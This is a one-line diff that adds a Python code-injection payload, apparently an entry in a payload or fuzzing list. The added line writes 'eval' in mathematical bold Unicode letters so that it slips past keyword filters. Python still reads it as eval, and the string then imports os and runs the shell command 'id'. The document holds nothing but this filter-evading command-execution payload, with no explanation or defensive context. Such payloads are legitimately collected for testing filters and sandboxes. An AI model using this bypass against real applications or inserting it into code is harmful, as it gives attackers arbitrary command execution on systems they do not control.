@@ -1,0 +1,1 @@
+𝐞𝐯𝐚𝐥("__import__('os').system('id')")
